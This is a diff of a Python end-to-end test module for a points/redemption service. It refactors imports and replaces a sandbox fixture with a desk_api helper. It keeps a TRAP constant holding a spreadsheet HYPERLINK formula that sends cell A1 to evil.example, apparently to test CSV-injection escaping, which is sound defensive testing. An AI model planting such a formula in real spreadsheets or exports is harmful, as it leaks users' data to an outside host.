@@ -7,32 +7,28 @@ import csv
 import io
 import json
 from collections import defaultdict
-from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from pointbridge.cli import main
 from pointbridge.members import safe_cell
-from pointbridge.sandbox import Sandbox
 from shared.access.keys import AdminRole, PrincipalKind
-from tests.support.channels import identity_key
-from tests.support.desk import EMAIL, PROGRAM, REDEMPTION, seed_desk
-from tests.support.http_api import HttpApi
+from tests.support.desk import EMAIL, PROGRAM, REDEMPTION, desk_api
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
+    from pathlib import Path
+
+    from tests.support.http_api import HttpApi
 
 pytestmark = pytest.mark.e2e
-TEMPLATE = Path(__file__).resolve().parents[2] / "template.yaml"
 TRAP = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 @pytest.fixture(scope="module")
 def api() -> Iterator[HttpApi]:
-    with Sandbox(template=TEMPLATE, schedules=False, pool_size=2) as sb:
-        http = HttpApi(sb)
-        seed_desk(http.services, identity_key(sb))
+    with desk_api() as http:
         yield http
 
 
